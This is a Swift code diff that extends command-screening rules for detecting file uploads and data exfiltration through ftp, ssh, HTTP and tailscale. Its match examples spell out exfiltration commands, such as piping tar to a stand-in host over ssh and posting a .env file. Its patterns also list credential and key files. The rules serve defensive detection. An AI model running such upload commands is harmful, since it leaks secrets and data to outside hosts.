@@ -57,7 +57,8 @@ enum UploadRules {
       program: "sftp|ftp|lftp|tftp|ncftpput|smbclient",
       command: "",
       when: """
-        @some
+        @some !@stdin !:*:/*
+        @text:put|mirror|rename|delete|send
         -c|-e|-f|-n
         """,
       match: """
@@ -93,7 +94,7 @@ enum UploadRules {
       advice: nil,
       program: "ssh",
       command: "",
-      when: "@from:tar|zip|gzip|pg_dump|mysqldump|git|env|printenv @some",
+      when: "@from:tar|docker|podman|zip|gzip|pg_dump|mysqldump|git|env|printenv @some",
       match: "tar c src | ssh x.example tar x",
       notMatch: """
         ls | ssh host wc
@@ -145,7 +146,7 @@ enum UploadRules {
       command: "",
       when: """
         :*@.env|*@*/.env|*@*id_rsa|*@*.pem|*@*credentials|*@/etc/*|*@~/*|*@/home/*|*@/root/*
-        :@*.sql|@*.db|@*.sqlite*|@*.tgz|@*.gz|@*.zip|@*.tar|@*.dump|@*.csv|*=@*.sql !:*localhost*|:*|*127.0.0.1*
+        :*@*.sql|*@*.db|*@*.sqlite*|*@*.tgz|*@*.gz|*@*.zip|*@*.tar|*@*.dump|@*.csv|@*secret*|@*credential* !:*localhost*|:*|*127.0.0.1*
         """,
       match: """
         http https://x.example f@.env
@@ -212,5 +213,14 @@ enum UploadRules {
         ssh prod uptime
         ssh prod wc -l < a.txt
         """),
+    BuiltInRule(
+      id: "upload.device", ruling: .ask, severity: .high,
+      reason: "sends a file to another device",
+      advice: nil,
+      program: "tailscale",
+      command: "file cp",
+      when: "",
+      match: "tailscale file cp a.txt phone:",
+      notMatch: "tailscale file get ."),
   ]
 }
